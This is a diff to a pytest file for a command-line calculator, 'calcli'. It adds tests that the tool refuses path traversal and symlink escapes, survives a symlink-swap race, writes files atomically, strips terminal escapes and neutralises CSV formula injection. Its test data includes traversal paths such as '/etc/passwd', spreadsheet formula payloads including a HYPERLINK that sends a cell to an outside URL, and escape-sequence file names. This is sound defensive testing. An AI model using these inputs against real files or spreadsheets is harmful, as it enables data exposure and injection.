@@ -20,7 +20,7 @@ from hypothesis import strategies as st
 
 import calcli
 from calcli.errors import CalcliError, InputError
-from calcli.files import FilePolicy, write_new
+from calcli.files import Beneath, FileOutput, FilePolicy, write_new
 from calcli.ops.numeric import compile_numeric
 from tests.hostile import SLOW
 from tests.processes import alive, wait_until
@@ -159,10 +159,13 @@ def test_a_batch_line_uses_files_only_inside_allow_files(tmp_path):
     (tmp_path / "outside.png").symlink_to(tmp_path / "victim")
     (allowed / "escape.svg").symlink_to(tmp_path / "victim.svg")
     policy = FilePolicy(untrusted=True, root=str(allowed))
-    assert policy.resolve("plot.svg", "--plot") == str(allowed / "plot.svg")
-    for path in ("../x.svg", "/etc/passwd", str(tmp_path / "x.svg"), "escape.svg", "-"):
+    assert policy.resolve("plot.svg", "--plot") == Beneath(str(allowed), "plot.svg")
+    assert policy.resolve(str(allowed / "a" / ".." / "p.svg"), "--plot") == Beneath(str(allowed), "p.svg")
+    for path in ("../x.svg", "/etc/passwd", str(tmp_path / "x.svg"), "-", "", "a/../../x.svg"):
         with pytest.raises(InputError):
             policy.resolve(path, "--plot")
+    with pytest.raises(InputError, match="symbolic link"):  # a link inside the folder is refused when it is used
+        write_new(policy.resolve("escape.svg", "--plot"), b"x", True, "--plot")
     with pytest.raises(InputError, match="--allow-files"):
         FilePolicy(untrusted=True).resolve("plot.svg", "--plot")
     lines = tmp_path / "lines.txt"
@@ -172,6 +175,45 @@ def test_a_batch_line_uses_files_only_inside_allow_files(tmp_path):
     p = calcli_process("batch", str(lines), "--format", "plain", "--allow-files", str(allowed), cwd=tmp_path)
     assert [line.split("\t")[1] for line in p.stdout.splitlines()] == ["passed", "error", "error"]
     assert (allowed / "p.svg").exists() and not (tmp_path / "q.svg").exists()
+
+
+@pytest.mark.parametrize("force", [False, True])
+def test_a_folder_swapped_for_a_link_while_a_line_computes_is_not_written_through(tmp_path, force):
+    """The --allow-files race made deterministic: the path is checked (resolve, in the computing child),
+    then sub/ is swapped for a link to a folder outside before the parent writes the file."""
+    allowed, outside = tmp_path / "allowed", tmp_path / "outside"
+    (allowed / "sub").mkdir(parents=True)
+    outside.mkdir()
+    (outside / "p.svg").write_text("precious")
+    (allowed / "sub" / "p.svg").write_text("old")
+    path = FilePolicy(untrusted=True, root=str(allowed)).resolve("sub/p.svg", "--plot")
+    (allowed / "sub").rename(allowed / "was-sub")
+    (allowed / "sub").symlink_to(outside)
+    with pytest.raises(InputError, match="symbolic link"):
+        FileOutput(path, b"new", force, "--plot").write()
+    assert (outside / "p.svg").read_text() == "precious" and sorted(os.listdir(outside)) == ["p.svg"]
+
+
+def test_a_forced_write_replaces_the_file_whole_or_not_at_all(tmp_path, monkeypatch):
+    """--force on a full disk: the old picture stays as it was, and no partial file is left."""
+    target = tmp_path / "a.png"
+    target.write_bytes(b"old picture")
+    real_write = os.write
+
+    def full_disk(fd, data):
+        real_write(fd, bytes(data[:3]))
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(os, "write", full_disk)
+    with pytest.raises(InputError, match="No space left"):
+        write_new(str(target), b"new picture", True, "--plot")
+    monkeypatch.undo()
+    assert target.read_bytes() == b"old picture" and os.listdir(tmp_path) == ["a.png"]
+
+
+def test_wrote_names_the_file_without_terminal_escapes(tmp_path):
+    p = calcli_process("grad", "x*y", "--plot", "p\x1b[2J.png", cwd=tmp_path)
+    assert p.returncode == 0 and "\x1b" not in p.stderr and "wrote p\\u001b[2J.png" in p.stderr
 
 
 def test_data_errors_never_show_the_files_content(tmp_path):
@@ -214,3 +256,58 @@ def test_a_usage_error_stops_the_prestarted_child_at_once(cold_and_warm):
     proc.communicate(timeout=30)
     assert proc.returncode == 2
     assert wait_until(lambda: not any(alive(pid) for pid in started), 2)
+
+
+# --- CSV a spreadsheet opens safely ------------------------------------------------------
+
+
+FORMULAS = ["=2+5", "+SUM(A1)", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", '=HYPERLINK("http://x/?"&A1)']
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_csv_cell_that_starts_like_a_formula_is_text(text):
+    from calcli.render.csv_rows import csv_cell, csv_text
+
+    cell = csv_cell(text)
+    assert cell.startswith("'") and cell[1:].replace("\\u000d", "\r") == text
+    assert next(iter(__import__("csv").reader([csv_text([[text]])])))[0].startswith("'")
+
+
+@pytest.mark.parametrize("number", ["-1", "-0.5", "+3", "1e-05", "-2.5E+10", ".5", "42", "-0"])
+def test_numbers_stay_numbers_in_csv(number):
+    from calcli.render.csv_rows import csv_cell
+
+    assert csv_cell(number) == number and csv_cell(float(number)) == str(float(number))
+
+
+def test_csv_cells_carry_no_terminal_escapes():
+    from calcli.render.csv_rows import csv_text
+
+    text = csv_text([["a\x1b[31mred", "\u202etxt.exe"]])
+    assert "\x1b" not in text and "\u202e" not in text and "\\u001b" in text and "\\u202e" in text
+
+
+def test_a_gradebook_from_hostile_file_names_is_safe_to_open(tmp_path, capsys):
+    import csv
+    import io
+
+    from typer.main import get_command
+
+    from calcli.cli import app
+    from calcli.formats import Format
+    from calcli.grade_cli import run
+    from calcli.request import Common
+
+    problems = tmp_path / "problems.txt"
+    problems.write_text('grad "x^2"\n')
+    answers = tmp_path / "answers"
+    answers.mkdir()
+    names = ["=2+5", "@SUM(A1)", "+1", "-cmd", "esc\x1b[2J", "rtl\u202egnp"]
+    for name in names:
+        (answers / f"{name}.txt").write_text("=HYPERLINK(2x)\n")
+    assert run(str(problems), [str(answers)], 1, False, None, Common(format=Format.csv), get_command(app)) == 0
+    out = capsys.readouterr().out
+    rows = list(csv.reader(io.StringIO(out, newline="")))
+    assert out.endswith("\r\n") and "\x1b" not in out and "\u202e" not in out
+    firsts = [row[0] for row in rows[1:]]
+    assert sorted(firsts) == sorted(["'=2+5", "'@SUM(A1)", "+1", "'-cmd", "esc\\u001b[2J", "rtl\\u202egnp"])  # +1 is a number
